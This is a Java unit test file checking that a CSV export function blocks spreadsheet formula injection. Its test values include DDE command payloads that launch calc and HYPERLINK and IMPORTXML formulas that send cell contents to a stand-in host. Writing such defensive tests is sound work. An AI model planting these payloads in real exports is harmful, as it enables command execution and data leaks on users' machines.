package org.myelin.analytics.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTests {

    private static String text(byte[] file) {
        return new String(file, StandardCharsets.UTF_8);
    }

    @Test
    void the_file_starts_with_a_byte_order_mark_and_ends_lines_with_crlf() {
        byte[] file = Csv.write(List.of("Name", "Date"), List.of(List.of("Zoë", "2026-03-20")));

        assertThat(file).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(text(file)).isEqualTo("\uFEFF\"Name\",\"Date\"\r\n\"Zoë\",\"2026-03-20\"\r\n");
    }

    @Test
    void quotes_commas_and_line_breaks_survive_reading_back() throws IOException {
        String nasty = "O\"Neil, \"the\" nurse\nsecond line";
        byte[] file = Csv.write(List.of("Name"), List.of(List.of(nasty)));

        try (CsvReader<CsvRecord> reader =
                CsvReader.builder().ofCsvRecord(text(file).substring(1))) {
            assertThat(reader.stream().skip(1).map(record -> record.getField(0)))
                    .containsExactly(nasty);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "+1234",
                "-2+3+cmd|' /C calc'!D2",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://x.example?\"&A1,\"click\")",
                "=IMPORTXML(CONCAT(\"http://x.example?v=\",A1),\"//a\")",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\tplain",
                "\rplain",
                " =1+1",
                "\u00A0=1+1",
                "\u200B=1+1",
                "\uFEFF=1+1",
                "\"=1+1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM(1)",
                "Ada;=1+1;x",
                "Ada,=1+1",
                "Ada\t=1+1",
                "Ada\n=1+1",
                "Ada; \u200B@SUM(1)",
                "Ada|+1",
                "Ada\";=1+1"
            })
    void no_cell_starts_a_formula_whatever_the_list_separator(String attack) {
        String line = text(Csv.write(List.of("Name"), List.of(List.of(attack))));

        assertThat(line).hasLineCount(attack.matches("(?s).*[\\r\\n].*") ? 3 : 2);
        assertThat(line.substring(line.indexOf("\r\n") + 2).split("[,;|\t\r\n\"]"))
                .allSatisfy(cell -> assertThat(cell.replaceAll("^[\\p{Z}\\p{Cc}\\p{Cf}]+", ""))
                        .doesNotMatch("(?s)[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20].*"));
        assertThat(Csv.safe(attack).charAt(0)).isNotIn('=', '+', '-', '@', '\t', '\r', '\n');
        assertThat(Csv.safe(attack).replace("'", "")).isEqualTo(attack.replace("'", ""));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"", "Ada Berg", "2026-03-20", "ada@example.org", "a=b", "Anne-Marie", "C++", "12.5", "x - y"})
    void ordinary_text_is_left_alone(String cell) {
        assertThat(Csv.safe(cell)).isEqualTo(cell);
    }

    @Test
    void random_text_never_starts_a_formula() {
        Random random = new Random(7);
        String alphabet = "=+-@\t\r\n ,;|\"'a1\u200B\uFF1D";
        for (int i = 0; i < 20_000; i++) {
            StringBuilder cell = new StringBuilder();
            for (int length = random.nextInt(8); length > 0; length--) {
                cell.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            assertThat(Arrays.asList(Csv.safe(cell.toString()).split("[,;|\t\r\n\"]")))
                    .as("cell <%s>", cell)
                    .allSatisfy(part -> assertThat(part.replaceAll("^[\\p{Z}\\p{Cc}\\p{Cf}]+", ""))
                            .doesNotMatch("(?s)[=+\\-@\uFF1D].*"));
        }
    }

    @Test
    void a_row_that_does_not_fit_the_header_is_refused() {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> Csv.write(List.of("Name", "Date"), List.of(List.of("Ada"))));
    }
}
